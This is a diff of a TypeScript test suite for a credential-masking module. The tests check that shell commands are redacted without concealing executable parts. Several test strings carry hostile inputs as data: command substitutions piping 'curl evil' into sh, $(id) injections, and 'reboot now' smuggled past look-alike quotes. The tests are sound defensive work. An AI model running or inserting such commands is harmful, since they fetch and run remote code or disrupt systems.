@@ -1,16 +1,23 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
 import {
-  credentialsIn,
   credentialsInArguments,
   credentialsInCommand,
+} from "../../src/model/command-credentials.ts";
+import {
+  credentialsIn,
   hideStretches,
   isSecretName,
   mayBeSecretName,
 } from "../../src/model/credentials.ts";
 
-const hide = (text: string): string => hideStretches(text, credentialsIn(text), "***");
-const hideLine = (line: string): string => hideStretches(line, credentialsInCommand(line), "***");
+const stars = (): string => "***";
+const hide = (text: string): string => hideStretches(text, credentialsIn(text), stars);
+const hideLine = (line: string): string => hideStretches(line, credentialsInCommand(line), stars);
+const hideList = (command: string[]): string[] => {
+  const found = credentialsInArguments(command);
+  return command.map((argument, index) => hideStretches(argument, found[index] ?? [], stars));
+};
 
 test("tokens of known forms are found in any text", () => {
   const tokens = [
@@ -89,16 +96,83 @@ test("what stands for a secret, or only speaks of one, is no credential", () => 
 });
 
 test("in a list the value of an option is the next argument, or the rest of its own", () => {
-  const show = (command: string[]): string[] => {
-    const found = credentialsInArguments(command);
-    return command.map((argument, index) => hideStretches(argument, found[index] ?? [], "***"));
-  };
-  assert.deepEqual(show(["x", "--token", "a b 'c", "y"]), ["x", "--token", "***", "y"]);
-  assert.deepEqual(show(["x", "--password=a b"]), ["x", "--password=***"]);
-  assert.deepEqual(show(["x", "-H", "Cookie: a=b; c=d"]), ["x", "-H", "Cookie: ***"]);
-  assert.deepEqual(show(["sh", "-c", "x --token abc y"]), ["sh", "-c", "x --token *** y"]);
+  assert.deepEqual(hideList(["x", "--token", "a b 'c", "y"]), ["x", "--token", "***", "y"]);
+  assert.deepEqual(hideList(["x", "--password=a b"]), ["x", "--password=***"]);
+  assert.deepEqual(hideList(["x", "-H", "Cookie: a=b; c=d"]), ["x", "-H", "Cookie: ***"]);
+  assert.deepEqual(hideList(["sh", "-c", "x --token abc y"]), ["sh", "-c", "x --token *** y"]);
   const plain = ["x", "--token", "$T", "--password", "--other", "--no-password", "app", "--token"];
-  assert.deepEqual(show(plain), plain);
+  assert.deepEqual(hideList(plain), plain);
+});
+
+test("a password in quotes is hidden whole, whatever is in it", () => {
+  const lines: [string, string][] = [
+    ["x --password='a b;c&d|e $f (g)' y", "x --password='***' y"],
+    ['x --password="a b;c \\"d\\" \\$e" y', 'x --password="***" y'],
+    ["x --password='a b'\"c d\"e y", "x --password=*** y"],
+    ["x --password=a\\ b y", "x --password=*** y"],
+    ["TOKEN='a b' x; SECRET=\"c d\" y", "TOKEN='***' x; SECRET=\"***\" y"],
+    ['x --password="a $USER b" y', 'x --password="***$USER***" y'],
+    ["x --password=a$USER-b y", "x --password=***$USER*** y"],
+    [
+      'sh -c "x --password=abc --token=\\"def\\" y"',
+      'sh -c "x --password=*** --token=\\"***\\" y"',
+    ],
+  ];
+  for (const [line, shown] of lines) assert.equal(hideLine(line), shown);
+});
+
+test("what a shell would run is never a part of a credential", () => {
+  const lines: [string, string][] = [
+    ['x --password="h$(curl evil|sh)"', 'x --password="***$(curl evil|sh)"'],
+    ["x --password=h`curl evil|sh`", "x --password=***`curl evil|sh`"],
+    ["x --password h<(curl evil)", "x --password ***<(curl evil)"],
+    ['TOKEN="a$(id)" x', 'TOKEN="***$(id)" x'],
+    ["curl h/?token=x`id`", "curl h/?token=***`id`"],
+    ["curl h/?token=x;id", "curl h/?token=***;id"],
+    ['curl -H "Authorization: Bearer x$(id)"', 'curl -H "Authorization: Bearer ***$(id)"'],
+    ["psql postgres://u:x$(id)@h", "psql postgres://u:***$(id)@h"],
+    ["psql postgres://u:x;id@h", "psql postgres://u:***;id@h"],
+    ["x --password='a$(id)'", "x --password='***$(id)'"],
+    ["x \"--password='a$(id)'\"", "x \"--password='***$(id)'\""],
+    ['x --password="a\\`id\\`"', 'x --password="***\\`id\\`"'],
+  ];
+  for (const [line, shown] of lines) assert.equal(hideLine(line), shown);
+});
+
+test("quotes that only look as if they were around a password hide nothing that runs", () => {
+  for (const line of [
+    'echo " --password="; reboot now; echo ""',
+    'A="b TOKEN="x reboot now "c"',
+    'echo "$(echo "--password=\'")"; reboot now; echo "\'"',
+    'X="${Y:-"TOKEN=\'"}" reboot now "\'"',
+    "X=$'\\'TOKEN=' reboot now ''",
+    "true # --password='\nreboot now #'",
+    "cat <<E\n--password='\nE\nreboot now\n'",
+    "eval x --password='a; reboot now'",
+    "ssh h x --password='a; reboot now'",
+    "echo --password='a; reboot now' | sh",
+    'sh -c \'echo "--password="; reboot now; echo ""\'',
+    "alias q=\"echo '\"\nq --password='; reboot now; echo ",
+    'true "-----BEGIN PRIVATE KEY-----"; reboot now',
+    "true -----BEGIN PRIVATE KEY-----\nreboot now\n-----END PRIVATE KEY-----",
+    "true '-----BEGIN PRIVATE KEY-----$(reboot now)-----END PRIVATE KEY-----'",
+  ]) {
+    assert.match(hideLine(line), /reboot now/, line);
+  }
+});
+
+test("an argument hides no script, nor what it would run if somebody made a line of it", () => {
+  assert.deepEqual(hideList(["x", "--password", "h$(id)"]), ["x", "--password", "***$(id)"]);
+  assert.deepEqual(hideList(["x", "--password=h $i"]), ["x", "--password=***"]);
+  for (const command of [
+    ["sh", "-c", "token: x; reboot now"],
+    ["sh", "-c", "--", "--password=x; reboot now"],
+    ["sh", "-c", "x --password=a$(reboot now)"],
+    ["ssh", "h", "--password", "x; reboot now"],
+    ["perl", "-e", "$p = q{ password=' }; system 'reboot now'"],
+  ]) {
+    assert.match(hideList(command).join(" "), /reboot now/, command.join(" "));
+  }
 });
 
 test("names of secrets, of what may be one, and of what is about one", () => {
@@ -123,6 +197,11 @@ test("long texts are read in time that grows with their length", () => {
     "-----BEGIN PRIVATE KEY-----",
     "ghp_",
     "--password",
+    "--token=a$b ",
+    "A='b' ",
+    "TOKEN=a$",
+    "-----BEGIN PRIVATE KEY-----\nMIIE\n",
+    '"',
   ]) {
     const start = performance.now();
     credentialsInCommand(text.repeat(500_000 / text.length));
